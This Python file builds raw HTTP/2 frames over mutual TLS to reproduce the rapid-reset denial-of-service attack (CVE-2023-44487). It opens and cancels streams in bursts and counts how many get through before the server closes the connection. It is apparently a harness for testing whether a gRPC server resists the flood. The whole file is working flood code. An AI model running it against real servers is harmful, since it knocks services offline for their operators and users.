# SPDX-License-Identifier: Apache-2.0
"""Streams of HTTP/2 that are opened and reset at once, over mutual TLS (CVE-2023-44487): no client library sends that."""
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_HEADERS, CANCEL, SETTINGS_ACK = 4, 8, 1


def frame(kind, flags, stream, body):
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def literal(name, value):
    return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value


def request_headers(path):
    return b"".join(literal(*pair) for pair in (
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def connect(env, terminal, address, timeout=30):
    context = ssl.create_default_context(cafile=env["MG_CA"])
    context.load_cert_chain(env[f"MG_TERMINAL_{terminal}_CERT"], env[f"MG_TERMINAL_{terminal}_KEY"])
    context.set_alpn_protocols(["h2"])
    host, port = address.split(":")
    plain = socket.create_connection((host, int(port)), timeout=timeout)
    return context.wrap_socket(plain, server_hostname=env["MG_SERVER_NAME"])


def reset_flood(env, terminal, address, path, resets, until=None):
    """Opens and resets so many streams; how many were sent before the server shut the line, or the time was over."""
    sent = 0
    with connect(env, terminal, address, 30 if until is None else 5) as line:
        head = request_headers(path)
        line.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, SETTINGS_ACK, 0, b""))
        try:
            while sent < resets and (until is None or time.time() < until):
                burst = b""
                for _ in range(min(100, resets - sent)):
                    stream = 2 * sent + 1
                    burst += frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    sent += 1
                line.sendall(burst)
                drain(line)
        except OSError:  # shut: that is an answer too
            pass
    return sent


def drain(line):
    """What the server said is not looked at."""
    timeout = line.gettimeout()
    line.setblocking(False)
    try:
        while line.recv(65536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        line.settimeout(timeout)
